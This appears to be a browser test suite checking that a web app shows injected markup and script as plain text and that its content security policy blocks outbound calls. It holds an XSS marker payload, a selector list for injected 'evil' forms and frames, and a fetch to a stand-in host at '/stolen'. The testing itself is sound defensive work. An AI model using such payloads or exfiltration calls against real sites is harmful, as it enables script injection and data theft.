"""Markup and script in prompts, names and searches: shown as the text it is, never run."""

import pytest

from tests.ui.hostile import MARKUP

pytestmark = [pytest.mark.browser, pytest.mark.long]

PWNED = "typeof window.pwned !== 'undefined'"


@pytest.fixture
def filled(desk):
    """The app with all of it in its jobs and presets, and the queue paused."""
    desk.do("pause_queue")
    for text in MARKUP:
        desk.queue(text.replace("{", "(").replace("}", ")"))
        desk.ask("do/save_preset", {"name": text, "fields": {"steps": 5}})
        desk.ask("research/save-search", {"tags": text})
    desk.page.reload()
    desk.page.wait_for_selector("#webui-state .bs-dot.bs-good")
    desk.page.wait_for_selector("#tabs button[role=tab]")
    return desk


def test_nothing_of_it_runs_wherever_it_is_shown(filled):
    page = filled.page
    page.get_by_role("tab", name="Jobs", exact=True).click()
    filled.until(lambda: page.locator("#jobs-list .bs-job").count() > 5)
    shown = page.locator("#jobs-list").inner_text()
    assert "<script>window.pwned=1</script>" in shown
    for row in page.locator("#jobs-list .bs-job .bs-pill").all()[:8]:
        row.click()
    assert not page.evaluate(PWNED)

    page.get_by_role("tab", name="Generation", exact=True).click()
    for text in MARKUP:
        page.fill("#prompt textarea", text)
    page.wait_for_timeout(600)
    assert not page.evaluate(PWNED)

    page.get_by_role("tab", name="Research", exact=True).click()
    for text in MARKUP[:4]:
        page.fill("#research-search textarea, #research-search input", text)
        page.keyboard.press("Enter")
        page.fill("#post-link textarea, #post-link input", text)
        page.click("#draft-button")
    page.wait_for_timeout(1500)

    assert not page.evaluate(PWNED)
    made = "iframe[srcdoc], base[href*=evil], form[action*=evil], meta[http-equiv=refresh]"
    assert page.locator(made).count() == 0


def test_a_script_that_came_in_could_not_call_another_host(filled):
    """The page's policy is the second wall: it holds even where the first one had a hole."""
    blocked = filled.page.evaluate(
        """() => new Promise((done) => {
          document.addEventListener('securitypolicyviolation',
            (event) => done(event.effectiveDirective));
          fetch('http://192.0.2.1/stolen').catch(() => {});
          setTimeout(() => done(''), 3000);
        })"""
    )

    assert blocked == "connect-src"
